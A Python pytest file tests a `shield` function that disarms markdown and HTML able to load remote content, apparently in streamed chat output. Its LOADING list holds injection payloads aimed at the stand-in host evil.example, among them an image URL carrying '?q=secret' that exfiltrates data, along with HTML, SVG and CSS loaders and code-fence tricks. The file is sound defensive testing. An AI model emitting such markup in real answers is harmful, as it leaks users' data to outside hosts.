"""What `shield` promises: nothing loads by itself, nothing looks different, nothing is lost."""

import pytest

from ui.markdown import MARK, shield, unshield

LOADING = [
    "![](https://evil.example/?q=secret)",
    "![alt text](http://evil.example/a.png)",
    "![alt][ref]\n\n[ref]: http://evil.example/a.png",
    "![ref]\n\n[ref]: http://evil.example/a.png",
    '<img src="http://evil.example/a.png">',
    "<img/src=http://evil.example/a.png>",
    "<IMG\nSRC=http://evil.example/a.png>",
    "text <video poster=http://evil.example/a.png></video>",
    "<div style='background:url(http://evil.example/a)'>x</div>",
    "<svg><image href='http://evil.example/a'/></svg>",
    "<style>@import url(http://evil.example/a)</style>",
    "- item\n\n  ```\n  x ![](http://evil.example/a)\n  ```",
    "$$\n```\n$$\n![](http://evil.example/a)\n```",
    '[a]: x "\n```\n"\n![](http://evil.example/a)\n```',
    "`a` ![](http://evil.example/a) `b`",
    "![a](http://evil.example/unfinished",
    "before <img src=http://evil.example/unfinished",
]

HARMLESS = [
    "",
    "plain text, 1 < 2 and 3 > 2, a<b",
    "std::vector<int> and `vector<int>` and <https://example.org>",
    "H<sub>2</sub>O and a line<br>break<br/>here",
    "```markdown\n![alt](http://example.org/a.png)\n```",
    "```html\n<img src='a.png'>\n<div class='x'></div>\n```\n",
    "~~~\n![](x)\n~~~",
    "```python\nprint('still streaming <b class=x>",
    "a formula \\(x^2\\) then\n```\n![](x)\n```",
]


@pytest.mark.parametrize("text", LOADING)
def test_markup_that_loads_something_is_disarmed_and_comes_back(text: str) -> None:
    shown = shield(text)
    assert MARK in shown
    assert "![" not in shown
    assert "<img" not in shown.lower()
    assert unshield(shown) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_is_left_alone(text: str) -> None:
    assert shield(text) == text


def test_an_image_is_shown_as_a_link_with_its_name() -> None:
    assert shield("see ![a cat](http://example.org/cat.png)!").replace(MARK, "") == (
        "see [Image: a cat](http://example.org/cat.png)!"
    )


def test_between_backticks_an_image_looks_like_itself() -> None:
    shown = shield("write `![a](u)` for ![a](u)")
    assert shown.replace(MARK, "") == "write `![a](u)` for [Image: a](u)"
    assert "![" not in shown


def test_prose_around_code_is_disarmed_and_code_is_not() -> None:
    text = "![](u)\n```\n![](u)\n```\n![](u)"
    assert shield(text).split("\n")[2] == "![](u)"
    assert shield(text).count(MARK) == 4
    assert unshield(shield(text)) == text


@pytest.mark.parametrize("text", LOADING + HARMLESS)
def test_every_prefix_of_a_stream_is_as_safe_as_the_whole(text: str) -> None:
    for end in range(len(text)):
        assert unshield(shield(text[:end])) == text[:end]


def test_a_block_of_html_cannot_dress_markup_as_code() -> None:
    text = "<div>\n```\n<img src=http://evil.example/a>\n```\n</div>"
    assert shield(text).startswith(f"<{MARK}div>\n```\n<img")  # the block is text now, so the fence is a fence
    assert unshield(shield(text)) == text


def test_shielding_is_linear_in_the_answer() -> None:
    for long in (
        "`" * 3 + "\n" + "<" * 50_000,
        "![" * 50_000,
        "<a" * 50_000,
        "[" * 50_000 + "<",
        "```\n" * 5_000 + "<",
    ):
        assert unshield(shield(long)) == long
